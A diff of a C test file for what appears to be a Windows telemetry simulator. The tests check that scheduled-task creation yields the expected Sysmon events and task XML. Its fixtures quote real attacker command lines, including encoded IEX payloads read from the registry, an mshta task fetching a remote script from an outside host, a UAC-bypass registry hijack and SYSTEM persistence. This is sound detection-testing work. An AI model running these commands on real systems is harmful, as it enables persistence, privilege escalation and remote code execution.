@@ -124,15 +124,15 @@ static char *task_text(run *r, const char *winpath)
     if (tl_sim_read_file(r->sim, winpath, &data, &len) != TL_OK)
         return NULL;
     assert_true(len > 2 && (unsigned char)data[0] == 0xff && (unsigned char)data[1] == 0xfe);
-    assert_int_equal(text_decode((unsigned char *)data, len, &txt), TL_OK);
+    assert_int_equal(tl_text_decode((unsigned char *)data, len, &txt), TL_OK);
     tl_free(data);
     return txt;
 }
 
 static tl_regval *regval(run *r, const char *key, const char *name)
 {
-    tl_regkey *k = reg_find(r->sim, key);
-    return k ? reg_val_find(k, name) : NULL;
+    tl_regkey *k = tl_reg_find(r->sim, key);
+    return k ? tl_reg_val_find(k, name) : NULL;
 }
 
 /* ---- scenario loader ------------------------------------------------------------ */
@@ -252,12 +252,14 @@ static void test_sim_seed_yields_blog_event12(void **state)
         if (!strstr(r.xml, "<EventID>12</EventID>"))
             continue;
         found++;
-        assert_non_null(strstr(r.xml, "<Data Name='RuleName'>technique_id=T1053,technique_name="
-                                      "Scheduled Task</Data><Data Name='EventType'>CreateKey</Data>"));
-        assert_non_null(strstr(r.xml, "<Data Name='Image'>C:\\Windows\\system32\\svchost.exe</Data>"
-                                      "<Data Name='TargetObject'>HKLM\\SOFTWARE\\Microsoft\\Windows "
-                                      "NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\test-task"
-                                      "</Data><Data Name='User'>NT AUTHORITY\\SYSTEM</Data>"));
+        assert_non_null(strstr(r.xml,
+                               "<Data Name='RuleName'>technique_id=T1053,technique_name="
+                               "Scheduled Task</Data><Data Name='EventType'>CreateKey</Data>"));
+        assert_non_null(strstr(r.xml,
+                               "<Data Name='Image'>C:\\Windows\\system32\\svchost.exe</Data>"
+                               "<Data Name='TargetObject'>HKLM\\SOFTWARE\\Microsoft\\Windows "
+                               "NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\test-task"
+                               "</Data><Data Name='User'>NT AUTHORITY\\SYSTEM</Data>"));
         assert_non_null(strstr(r.xml, "<Computer>DESKTOP-4E0BQFT</Computer>"));
         assert_non_null(strstr(r.xml, "<Security UserID='S-1-5-18'/>"));
         assert_non_null(r.message);
@@ -271,11 +273,12 @@ static void test_sim_seed_yields_blog_event12(void **state)
     assert_int_equal(tl_sim_read_file(s, "c:\\WINDOWS\\system32\\TASKS\\Test-Task", &data, &len),
                      TL_OK);
     char *txt = NULL;
-    assert_int_equal(text_decode((unsigned char *)data, len, &txt), TL_OK);
+    assert_int_equal(tl_text_decode((unsigned char *)data, len, &txt), TL_OK);
     assert_true((unsigned char)data[0] == 0xff && (unsigned char)data[1] == 0xfe);
-    assert_non_null(strstr(txt, "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" "
-                                "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n"
-                                "  <RegistrationInfo>\r\n"));
+    assert_non_null(strstr(txt,
+                           "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" "
+                           "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n"
+                           "  <RegistrationInfo>\r\n"));
     assert_non_null(strstr(txt, "      <Command>C:\\Windows\\System32\\calc.exe</Command>\r\n"));
     assert_non_null(strstr(txt, "<LogonTrigger>"));
     assert_non_null(strstr(txt, "<UserId>S-1-5-18</UserId>"));
@@ -303,7 +306,8 @@ static void test_sim_update_orchestrator_seed(void **state)
     tl_record r;
     assert_int_equal(tl_sim_next_record(s, &r), 1);
     assert_non_null(strstr(r.xml, "<EventID>12</EventID>"));
-    assert_non_null(strstr(r.xml, "TaskCache\\Tree\\Microsoft\\Windows\\UpdateOrchestrator</Data>"));
+    assert_non_null(
+        strstr(r.xml, "TaskCache\\Tree\\Microsoft\\Windows\\UpdateOrchestrator</Data>"));
     assert_non_null(strstr(r.xml, "<Data Name='Image'>C:\\Windows\\system32\\svchost.exe</Data>"));
     assert_int_equal(tl_sim_next_record(s, &r), 0);
     tl_sim_free(s);
@@ -316,7 +320,8 @@ static void test_sim_same_seed_same_bytes(void **state)
     const char *steps =
         "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks /create /tn x /tr "
         "calc.exe /sc daily /st 09:00 /f\"},{\"at\":3,\"noise\":{\"events\":500,\"duration\":60}},"
-        "{\"at\":9,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks /delete /tn x /f\"}]";
+        "{\"at\":9,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks /delete /tn x "
+        "/f\"}]";
     run a, b;
     assert_true(run_steps(&a, steps, NULL, NULL));
     assert_true(run_steps(&b, steps, NULL, NULL));
@@ -330,105 +335,193 @@ static void test_sim_same_seed_same_bytes(void **state)
 
 typedef struct tcase {
     const char *why;
-    const char *pre;      /* extra steps before (JSON objects, comma-terminated) or "" */
-    const char *user;     /* "alice" (admin), "bob", "SYSTEM" */
+    const char *pre;  /* extra steps before (JSON objects, comma-terminated) or "" */
+    const char *user; /* "alice" (admin), "bob", "SYSTEM" */
     int elevated;
-    const char *parent;   /* NULL = cmd.exe */
-    const char *command;  /* JSON-escaped */
-    const char *task;     /* expected task path */
-    const char *cmd;      /* expected Exec Command */
-    const char *args;     /* expected Arguments (NULL = none) */
-    const char *xml_has;  /* a substring of the task XML, or NULL */
+    const char *parent;  /* NULL = cmd.exe */
+    const char *command; /* JSON-escaped */
+    const char *task;    /* expected task path */
+    const char *cmd;     /* expected Exec Command */
+    const char *args;    /* expected Arguments (NULL = none) */
+    const char *xml_has; /* a substring of the task XML, or NULL */
 } tcase;
 
 static const tcase cases[] = {
     {"APT3", "", "alice", 1, NULL,
-     "schtasks /create /tn \\\"mysc\\\" /tr C:\\\\Users\\\\Public\\\\test.exe /sc ONLOGON /ru \\\"System\\\"",
+     "schtasks /create /tn \\\"mysc\\\" /tr C:\\\\Users\\\\Public\\\\test.exe /sc ONLOGON /ru "
+     "\\\"System\\\"",
      "\\mysc", "C:\\Users\\Public\\test.exe", NULL, "<LogonTrigger>"},
     {"Frankenstein", "", "alice", 1, NULL,
      "schtasks /Create /F /SC DAILY /ST 09:00 /TN WinUpdate /TR C:\\\\Users\\\\Public\\\\x.exe",
      "\\WinUpdate", "C:\\Users\\Public\\x.exe", NULL,
      "<StartBoundary>2022-04-13T09:00:00</StartBoundary>"},
     {"Chimera", "", "alice", 1, NULL,
-     "schtasks /create /ru \\\"SYSTEM\\\" /tn \\\"update\\\" /tr \\\"cmd /c c:\\\\windows\\\\temp\\\\update.bat\\\" /sc once /f /st 14:00",
+     "schtasks /create /ru \\\"SYSTEM\\\" /tn \\\"update\\\" /tr \\\"cmd /c "
+     "c:\\\\windows\\\\temp\\\\update.bat\\\" /sc once /f /st 14:00",
      "\\update", "cmd", "/c c:\\windows\\temp\\update.bat", "<TimeTrigger>"},
     {"QakBot msra", "", "SYSTEM", 1, "C:\\\\Windows\\\\System32\\\\msra.exe",
-     "\\\"schtasks.exe\\\" /Create /RU \\\"NT AUTHORITY\\\\SYSTEM\\\" /tn juqpxmakfk /tr \\\"regsvr32.exe -s \\\\\\\"C:\\\\Users\\\\REDACTED\\\\ocrafh.html\\\\\\\"\\\" /SC ONCE /Z /ST 14:20 /ET 14:32",
+     "\\\"schtasks.exe\\\" /Create /RU \\\"NT AUTHORITY\\\\SYSTEM\\\" /tn juqpxmakfk /tr "
+     "\\\"regsvr32.exe -s \\\\\\\"C:\\\\Users\\\\REDACTED\\\\ocrafh.html\\\\\\\"\\\" /SC ONCE /Z "
+     "/ST 14:20 /ET 14:32",
      "\\juqpxmakfk", "regsvr32.exe", "-s \"C:\\Users\\REDACTED\\ocrafh.html\"",
      "<DeleteExpiredTaskAfter>PT0S</DeleteExpiredTaskAfter>"},
     {"Atomic 7 / QakBot 2022", "", "bob", 0, NULL,
-     "schtasks.exe /Create /F /TN \\\"ATOMIC-T1053.005\\\" /TR \\\"cmd /c start /min \\\\\\\"\\\\\\\" powershell.exe -Command IEX([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String((Get-ItemProperty -Path HKCU:\\\\\\\\SOFTWARE\\\\\\\\ATOMIC-T1053.005).test)))\\\" /sc daily /st 07:45",
+     "schtasks.exe /Create /F /TN \\\"ATOMIC-T1053.005\\\" /TR \\\"cmd /c start /min "
+     "\\\\\\\"\\\\\\\" powershell.exe -Command "
+     "IEX([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String((Get-"
+     "ItemProperty -Path HKCU:\\\\\\\\SOFTWARE\\\\\\\\ATOMIC-T1053.005).test)))\\\" /sc daily /st "
+     "07:45",
      "\\ATOMIC-T1053.005", "cmd",
-     "/c start /min \"\" powershell.exe -Command IEX([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String((Get-ItemProperty -Path HKCU:\\\\SOFTWARE\\\\ATOMIC-T1053.005).test)))",
+     "/c start /min \"\" powershell.exe -Command "
+     "IEX([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String((Get-"
+     "ItemProperty -Path HKCU:\\\\SOFTWARE\\\\ATOMIC-T1053.005).test)))",
      "<CalendarTrigger>"},
-    {"Empire", "", "alice", 1, "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
-     "\\\"C:\\\\Windows\\\\system32\\\\schtasks.exe\\\" /Create /F /RU system /SC DAILY /ST 10:26 /TN Updater /TR \\\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe -NonI -W hidden -c \\\\\\\"IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp HKLM:\\\\Software\\\\Microsoft\\\\Network debug).debug)))\\\\\\\"\\\"",
+    {"Empire", "", "alice", 1,
+     "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
+     "\\\"C:\\\\Windows\\\\system32\\\\schtasks.exe\\\" /Create /F /RU system /SC DAILY /ST 10:26 "
+     "/TN Updater /TR \\\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe "
+     "-NonI -W hidden -c \\\\\\\"IEX "
+     "([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp "
+     "HKLM:\\\\Software\\\\Microsoft\\\\Network debug).debug)))\\\\\\\"\\\"",
      "\\Updater", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-     "-NonI -W hidden -c \"IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp HKLM:\\Software\\Microsoft\\Network debug).debug)))\"",
+     "-NonI -W hidden -c \"IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp "
+     "HKLM:\\Software\\Microsoft\\Network debug).debug)))\"",
      "<UserId>S-1-5-18</UserId>"},
     {"MuddyWater", "", "alice", 0, NULL,
-     "\\\"C:\\\\Windows\\\\system32\\\\schtasks.exe\\\" /Create /F /SC DAILY /ST 12:00 /TN MicrosoftEdge /TR \\\"c:\\\\Windows\\\\system32\\\\wscript.exe C:\\\\Windows\\\\temp\\\\Windows.vbe\\\"",
+     "\\\"C:\\\\Windows\\\\system32\\\\schtasks.exe\\\" /Create /F /SC DAILY /ST 12:00 /TN "
+     "MicrosoftEdge /TR \\\"c:\\\\Windows\\\\system32\\\\wscript.exe "
+     "C:\\\\Windows\\\\temp\\\\Windows.vbe\\\"",
      "\\MicrosoftEdge", "c:\\Windows\\system32\\wscript.exe", "C:\\Windows\\temp\\Windows.vbe",
      "<LogonType>InteractiveToken</LogonType>"},
     {"Tomiris", "", "bob", 0, NULL,
-     "SCHTASKS /CREATE /SC DAILY /TN StartDVL /TR \\\"C:\\\\Users\\\\bob\\\\AppData\\\\Roaming\\\\dvl.exe\\\" /ST 10:00",
-     "\\StartDVL", "C:\\Users\\bob\\AppData\\Roaming\\dvl.exe", NULL, "<DaysInterval>1</DaysInterval>"},
+     "SCHTASKS /CREATE /SC DAILY /TN StartDVL /TR "
+     "\\\"C:\\\\Users\\\\bob\\\\AppData\\\\Roaming\\\\dvl.exe\\\" /ST 10:00",
+     "\\StartDVL", "C:\\Users\\bob\\AppData\\Roaming\\dvl.exe", NULL,
+     "<DaysInterval>1</DaysInterval>"},
     {"yty", "", "bob", 0, NULL,
      "SchTasks /Create /SC DAILY /TN BigData /TR \\\"C:\\\\Users\\\\bob\\\\big.exe\\\" /ST 09:30",
      "\\BigData", "C:\\Users\\bob\\big.exe", NULL, NULL},
     {"Lucifer (caret, sic path)", "", "alice", 0, NULL,
-     "schtasks /create /sc minute /mo 1 /tn QQMusic ^ /tr C:Users\\\\%USERPROFILE%\\\\Downloads\\\\spread.exe /F",
+     "schtasks /create /sc minute /mo 1 /tn QQMusic ^ /tr "
+     "C:Users\\\\%USERPROFILE%\\\\Downloads\\\\spread.exe /F",
      "\\QQMusic", "C:Users\\C:\\Users\\alice\\Downloads\\spread.exe", NULL,
      "<Interval>PT1M</Interval>"},
     {"APT41 remote (local name)", "", "alice", 1, NULL,
-     "SCHTASKS /Create /S DESKTOP-4E0BQFT /U alice /p pw /SC ONCE /TN test /TR C:\\\\Windows\\\\Temp\\\\x.exe /ST 11:00 /RU SYSTEM",
+     "SCHTASKS /Create /S DESKTOP-4E0BQFT /U alice /p pw /SC ONCE /TN test /TR "
+     "C:\\\\Windows\\\\Temp\\\\x.exe /ST 11:00 /RU SYSTEM",
      "\\test", "C:\\Windows\\Temp\\x.exe", NULL, NULL},
     {"mshta dropper", "", "alice", 0, "C:\\\\Windows\\\\System32\\\\mshta.exe",
-     "\\\"C:\\\\Windows\\\\System32\\\\schtasks.exe\\\" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR \\\"mshta.exe https://hotelesms.com/Injection.txt\\\" /F",
-     "\\MSOFFICE_", "mshta.exe", "https://hotelesms.com/Injection.txt", "<Interval>PT60M</Interval>"},
+     "\\\"C:\\\\Windows\\\\System32\\\\schtasks.exe\\\" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ "
+     "/TR \\\"mshta.exe https://hotelesms.com/Injection.txt\\\" /F",
+     "\\MSOFFICE_", "mshta.exe", "https://hotelesms.com/Injection.txt",
+     "<Interval>PT60M</Interval>"},
     {"Agent Tesla /XML (UTF-16 file, folder)",
-     "{\"at\":0,\"user\":\"bob\",\"file\":{\"op\":\"write\",\"path\":\"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\tmp77E5.tmp\",\"encoding\":\"utf-16le-bom\",\"content\":\"<?xml version=\\\"1.0\\\" encoding=\\\"UTF-16\\\"?>\\r\\n<Task version=\\\"1.2\\\" xmlns=\\\"http://schemas.microsoft.com/windows/2004/02/mit/task\\\"><RegistrationInfo><Date>2014-10-25T14:27:44.8929027</Date><Author>bob</Author></RegistrationInfo><Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers><Principals><Principal id=\\\"Author\\\"><LogonType>InteractiveToken</LogonType></Principal></Principals><Settings><Enabled>true</Enabled><Hidden>false</Hidden></Settings><Actions Context=\\\"Author\\\"><Exec><Command>C:\\\\Users\\\\bob\\\\AppData\\\\Roaming\\\\neHneiobyhcrJJ.exe</Command></Exec></Actions></Task>\"}},",
+     "{\"at\":0,\"user\":\"bob\",\"file\":{\"op\":\"write\",\"path\":\"C:"
+     "\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\tmp77E5.tmp\",\"encoding\":\"utf-16le-bom\","
+     "\"content\":\"<?xml version=\\\"1.0\\\" encoding=\\\"UTF-16\\\"?>\\r\\n<Task "
+     "version=\\\"1.2\\\" "
+     "xmlns=\\\"http://schemas.microsoft.com/windows/2004/02/mit/"
+     "task\\\"><RegistrationInfo><Date>2014-10-25T14:27:44.8929027</Date><Author>bob</Author></"
+     "RegistrationInfo><Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></"
+     "Triggers><Principals><Principal "
+     "id=\\\"Author\\\"><LogonType>InteractiveToken</LogonType></Principal></"
+     "Principals><Settings><Enabled>true</Enabled><Hidden>false</Hidden></Settings><Actions "
+     "Context=\\\"Author\\\"><Exec><Command>C:"
+     "\\\\Users\\\\bob\\\\AppData\\\\Roaming\\\\neHneiobyhcrJJ.exe</Command></Exec></Actions></"
+     "Task>\"}},",
      "bob", 0, "C:\\\\Users\\\\bob\\\\Desktop\\\\payload.exe",
-     "\\\"C:\\\\Windows\\\\System32\\\\schtasks.exe\\\" /Create /TN \\\"Updates\\\\neHneiobyhcrJJ\\\" /XML \\\"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\tmp77E5.tmp\\\"",
+     "\\\"C:\\\\Windows\\\\System32\\\\schtasks.exe\\\" /Create /TN "
+     "\\\"Updates\\\\neHneiobyhcrJJ\\\" /XML "
+     "\\\"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\tmp77E5.tmp\\\"",
      "\\Updates\\neHneiobyhcrJJ", "C:\\Users\\bob\\AppData\\Roaming\\neHneiobyhcrJJ.exe", NULL,
      "<URI>\\Updates\\neHneiobyhcrJJ</URI>"},
     {"cmd /C with /XML (EVTX sample)",
-     "{\"at\":0,\"user\":\"alice\",\"file\":{\"op\":\"write\",\"path\":\"C:\\\\Users\\\\alice\\\\AppData\\\\Local\\\\Temp\\\\sduchxll.tmp\",\"encoding\":\"utf-8-bom\",\"content\":\"<?xml version=\\\"1.0\\\" encoding=\\\"UTF-16\\\"?><Task version=\\\"1.2\\\" xmlns=\\\"http://schemas.microsoft.com/windows/2004/02/mit/task\\\"><RegistrationInfo/><Actions Context=\\\"Author\\\"><Exec><Command>rundll32.exe</Command><Arguments>C:\\\\Users\\\\alice\\\\x.dll,Start</Arguments></Exec></Actions></Task>\"}},",
+     "{\"at\":0,\"user\":\"alice\",\"file\":{\"op\":\"write\",\"path\":\"C:"
+     "\\\\Users\\\\alice\\\\AppData\\\\Local\\\\Temp\\\\sduchxll.tmp\",\"encoding\":\"utf-8-bom\","
+     "\"content\":\"<?xml version=\\\"1.0\\\" encoding=\\\"UTF-16\\\"?><Task version=\\\"1.2\\\" "
+     "xmlns=\\\"http://schemas.microsoft.com/windows/2004/02/mit/task\\\"><RegistrationInfo/"
+     "><Actions "
+     "Context=\\\"Author\\\"><Exec><Command>rundll32.exe</"
+     "Command><Arguments>C:\\\\Users\\\\alice\\\\x.dll,Start</Arguments></Exec></Actions></"
+     "Task>\"}},",
      "alice", 0, "C:\\\\Windows\\\\System32\\\\rundll32.exe",
-     "\\\"C:\\\\Windows\\\\System32\\\\cmd.exe\\\"  /C schtasks /Create /f /XML C:\\\\Users\\\\alice\\\\AppData\\\\Local\\\\Temp\\\\sduchxll.tmp /TN DataUsageHandlers",
+     "\\\"C:\\\\Windows\\\\System32\\\\cmd.exe\\\"  /C schtasks /Create /f /XML "
+     "C:\\\\Users\\\\alice\\\\AppData\\\\Local\\\\Temp\\\\sduchxll.tmp /TN DataUsageHandlers",
      "\\DataUsageHandlers", "rundll32.exe", "C:\\Users\\alice\\x.dll,Start", NULL},
     {"Atomic 1 onstart", "", "alice", 1, NULL,
-     "schtasks /create /tn \\\"T1053_005_OnStartup\\\" /sc onstart /ru system /tr \\\"cmd.exe /c calc.exe\\\"",
+     "schtasks /create /tn \\\"T1053_005_OnStartup\\\" /sc onstart /ru system /tr \\\"cmd.exe /c "
+     "calc.exe\\\"",
      "\\T1053_005_OnStartup", "cmd.exe", "/c calc.exe", "<BootTrigger>"},
     {"Atomic 2", "", "bob", 0, NULL,
      "SCHTASKS /Create /SC ONCE /TN spawn /TR C:\\\\windows\\\\system32\\\\cmd.exe /ST 20:10",
      "\\spawn", "C:\\windows\\system32\\cmd.exe", NULL, "T20:10:00</StartBoundary>"},
     {"Atomic 11", "", "alice", 1, NULL,
-     "reg add \\\"HKEY_CURRENT_USER\\\\Software\\\\Classes\\\\mscfile\\\\shell\\\\open\\\\command\\\" /ve /t REG_EXPAND_SZ /d \\\"c:\\\\windows\\\\System32\\\\calc.exe\\\" /f & schtasks /Create /TN \\\"CompMgmtBypass\\\" /TR \\\"compmgmt.msc\\\" /SC ONLOGON /RL HIGHEST /F",
+     "reg add "
+     "\\\"HKEY_CURRENT_USER\\\\Software\\\\Classes\\\\mscfile\\\\shell\\\\open\\\\command\\\" /ve "
+     "/t REG_EXPAND_SZ /d \\\"c:\\\\windows\\\\System32\\\\calc.exe\\\" /f & schtasks /Create /TN "
+     "\\\"CompMgmtBypass\\\" /TR \\\"compmgmt.msc\\\" /SC ONLOGON /RL HIGHEST /F",
      "\\CompMgmtBypass", "compmgmt.msc", NULL, "<RunLevel>HighestAvailable</RunLevel>"},
     {"PowerShell Atomic 4", "", "alice", 1,
      "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
-     "$Action = New-ScheduledTaskAction -Execute \\\"calc.exe\\\"\\n$Trigger = New-ScheduledTaskTrigger -AtLogon\\n$User = New-ScheduledTaskPrincipal -GroupId \\\"BUILTIN\\\\Administrators\\\" -RunLevel Highest\\n$Set = New-ScheduledTaskSettingsSet\\n$object = New-ScheduledTask -Action $Action -Principal $User -Trigger $Trigger -Settings $Set\\nRegister-ScheduledTask AtomicTask -InputObject $object",
+     "$Action = New-ScheduledTaskAction -Execute \\\"calc.exe\\\"\\n$Trigger = "
+     "New-ScheduledTaskTrigger -AtLogon\\n$User = New-ScheduledTaskPrincipal -GroupId "
+     "\\\"BUILTIN\\\\Administrators\\\" -RunLevel Highest\\n$Set = "
+     "New-ScheduledTaskSettingsSet\\n$object = New-ScheduledTask -Action $Action -Principal $User "
+     "-Trigger $Trigger -Settings $Set\\nRegister-ScheduledTask AtomicTask -InputObject $object",
      "\\AtomicTask", "calc.exe", NULL, "<GroupId>S-1-5-32-544</GroupId>"},
     {"PowerShell Atomic 9 (Set-ScheduledTask)", "", "alice", 1,
      "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
-     "$Action = New-ScheduledTaskAction -Execute \\\"cmd.exe\\\"; $Trigger = New-ScheduledTaskTrigger -AtLogon; $User = New-ScheduledTaskPrincipal -GroupId \\\"BUILTIN\\\\Administrators\\\" -RunLevel Highest; $Set = New-ScheduledTaskSettingsSet; $object = New-ScheduledTask -Action $Action -Principal $User -Trigger $Trigger -Settings $Set; Register-ScheduledTask AtomicTaskModifed -InputObject $object; $NewAction = New-ScheduledTaskAction -Execute \\\"Notepad.exe\\\"; Set-ScheduledTask \\\"AtomicTaskModifed\\\" -Action $NewAction",
+     "$Action = New-ScheduledTaskAction -Execute \\\"cmd.exe\\\"; $Trigger = "
+     "New-ScheduledTaskTrigger -AtLogon; $User = New-ScheduledTaskPrincipal -GroupId "
+     "\\\"BUILTIN\\\\Administrators\\\" -RunLevel Highest; $Set = New-ScheduledTaskSettingsSet; "
+     "$object = New-ScheduledTask -Action $Action -Principal $User -Trigger $Trigger -Settings "
+     "$Set; Register-ScheduledTask AtomicTaskModifed -InputObject $object; $NewAction = "
+     "New-ScheduledTaskAction -Execute \\\"Notepad.exe\\\"; Set-ScheduledTask "
+     "\\\"AtomicTaskModifed\\\" -Action $NewAction",
      "\\AtomicTaskModifed", "Notepad.exe", NULL, NULL},
     {"PowerShell Atomic 8 (RegisterByXml, Hidden, UTF-8 BOM declaring UTF-16)",
-     "{\"at\":0,\"user\":\"alice\",\"file\":{\"op\":\"write\",\"path\":\"C:\\\\AtomicRedTeam\\\\T1053_05_SCTASK_HIDDEN_ATTRIB.xml\",\"encoding\":\"utf-8-bom\",\"content\":\"<?xml version=\\\"1.0\\\" encoding=\\\"UTF-16\\\"?>\\r\\n<Task version=\\\"1.2\\\" xmlns=\\\"http://schemas.microsoft.com/windows/2004/02/mit/task\\\">\\r\\n  <RegistrationInfo>\\r\\n    <Author>atomicredteam</Author>\\r\\n    <URI>\\\\atomic red team</URI>\\r\\n  </RegistrationInfo>\\r\\n  <Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>\\r\\n  <Settings><Hidden>true</Hidden></Settings>\\r\\n  <Actions Context=\\\"Author\\\"><Exec><Command>C:\\\\Windows\\\\system32\\\\calc.exe\\\"</Command><Arguments></Arguments></Exec></Actions>\\r\\n</Task>\"}},",
+     "{\"at\":0,\"user\":\"alice\",\"file\":{\"op\":\"write\",\"path\":\"C:"
+     "\\\\AtomicRedTeam\\\\T1053_05_SCTASK_HIDDEN_ATTRIB.xml\",\"encoding\":\"utf-8-bom\","
+     "\"content\":\"<?xml version=\\\"1.0\\\" encoding=\\\"UTF-16\\\"?>\\r\\n<Task "
+     "version=\\\"1.2\\\" "
+     "xmlns=\\\"http://schemas.microsoft.com/windows/2004/02/mit/task\\\">\\r\\n  "
+     "<RegistrationInfo>\\r\\n    <Author>atomicredteam</Author>\\r\\n    <URI>\\\\atomic red "
+     "team</URI>\\r\\n  </RegistrationInfo>\\r\\n  "
+     "<Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>\\r\\n  "
+     "<Settings><Hidden>true</Hidden></Settings>\\r\\n  <Actions "
+     "Context=\\\"Author\\\"><Exec><Command>C:\\\\Windows\\\\system32\\\\calc.exe\\\"</"
+     "Command><Arguments></Arguments></Exec></Actions>\\r\\n</Task>\"}},",
      "alice", 1, "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
-     "$xml = [System.IO.File]::ReadAllText(\\\"C:\\\\AtomicRedTeam\\\\T1053_05_SCTASK_HIDDEN_ATTRIB.xml\\\")\\nInvoke-CimMethod -ClassName PS_ScheduledTask -NameSpace \\\"Root\\\\Microsoft\\\\Windows\\\\TaskScheduler\\\" -MethodName \\\"RegisterByXml\\\" -Arguments @{ Force = $true; Xml =$xml; }",
+     "$xml = "
+     "[System.IO.File]::ReadAllText(\\\"C:\\\\AtomicRedTeam\\\\T1053_05_SCTASK_HIDDEN_ATTRIB."
+     "xml\\\")\\nInvoke-CimMethod -ClassName PS_ScheduledTask -NameSpace "
+     "\\\"Root\\\\Microsoft\\\\Windows\\\\TaskScheduler\\\" -MethodName \\\"RegisterByXml\\\" "
+     "-Arguments @{ Force = $true; Xml =$xml; }",
      "\\atomic red team", "C:\\Windows\\system32\\calc.exe\"", "", "<Hidden>true</Hidden>"},
     {"powershell -Command from cmd", "", "alice", 1, NULL,
-     "powershell.exe -NoProfile -Command \\\"Register-ScheduledTask -TaskName X1 -TaskPath \\\\\\\"\\\\F\\\\\\\" -Action (New-ScheduledTaskAction -Execute 'C:\\\\x\\\\y.exe' -Argument '-a b') -Trigger (New-ScheduledTaskTrigger -Daily -At 10:00) -User SYSTEM -Force\\\"",
+     "powershell.exe -NoProfile -Command \\\"Register-ScheduledTask -TaskName X1 -TaskPath "
+     "\\\\\\\"\\\\F\\\\\\\" -Action (New-ScheduledTaskAction -Execute 'C:\\\\x\\\\y.exe' -Argument "
+     "'-a b') -Trigger (New-ScheduledTaskTrigger -Daily -At 10:00) -User SYSTEM -Force\\\"",
      "\\F\\X1", "C:\\x\\y.exe", "-a b", "<UserId>S-1-5-18</UserId>"},
     {"powershell -EncodedCommand", "", "bob", 0, NULL,
-     "powershell.exe -NoP -W Hidden -enc UgBlAGcAaQBzAHQAZQByAC0AUwBjAGgAZQBkAHUAbABlAGQAVABhAHMAawAgAC0AVABhAHMAawBOAGEAbQBlACAAZQBuAGMAMQAgAC0AQQBjAHQAaQBvAG4AIAAoAE4AZQB3AC0AUwBjAGgAZQBkAHUAbABlAGQAVABhAHMAawBBAGMAdABpAG8AbgAgAC0ARQB4AGUAYwB1AHQAZQAgACIAQwA6AFwAeAAuAGUAeABlACIAKQAgAC0AVAByAGkAZwBnAGUAcgAgACgATgBlAHcALQBTAGMAaABlAGQAdQBsAGUAZABUAGEAcwBrAFQAcgBpAGcAZwBlAHIAIAAtAEEAdABMAG8AZwBvAG4AKQA=",
+     "powershell.exe -NoP -W Hidden -enc "
+     "UgBlAGcAaQBzAHQAZQByAC0AUwBjAGgAZQBkAHUAbABlAGQAVABhAHMAawAgAC0AVABhAHMAawBOAGEAbQBlACAAZQBuA"
+     "GMAMQAgAC0AQQBjAHQAaQBvAG4AIAAoAE4AZQB3AC0AUwBjAGgAZQBkAHUAbABlAGQAVABhAHMAawBBAGMAdABpAG8Abg"
+     "AgAC0ARQB4AGUAYwB1AHQAZQAgACIAQwA6AFwAeAAuAGUAeABlACIAKQAgAC0AVAByAGkAZwBnAGUAcgAgACgATgBlAHc"
+     "ALQBTAGMAaABlAGQAdQBsAGUAZABUAGEAcwBrAFQAcgBpAGcAZwBlAHIAIAAtAEEAdABMAG8AZwBvAG4AKQA=",
      "\\enc1", "C:\\x.exe", NULL, "<UserId>DESKTOP-4E0BQFT\\bob</UserId>"},
     {"WinPwnage elevator /xml then /run then /delete (state before delete)",
-     "{\"at\":0,\"user\":\"alice\",\"file\":{\"op\":\"write\",\"path\":\"c:\\\\users\\\\alice\\\\appdata\\\\local\\\\temp\\\\elevator.xml\",\"content\":\"<Task version=\\\"1.2\\\" xmlns=\\\"http://schemas.microsoft.com/windows/2004/02/mit/task\\\"><Principals><Principal id=\\\"LocalSystem\\\"><UserId>S-1-5-18</UserId></Principal></Principals><Actions Context=\\\"LocalSystem\\\"><Exec><Command>c:\\\\windows\\\\system32\\\\cmd.exe</Command></Exec></Actions></Task>\"}},",
+     "{\"at\":0,\"user\":\"alice\",\"file\":{\"op\":\"write\",\"path\":\"c:"
+     "\\\\users\\\\alice\\\\appdata\\\\local\\\\temp\\\\elevator.xml\",\"content\":\"<Task "
+     "version=\\\"1.2\\\" "
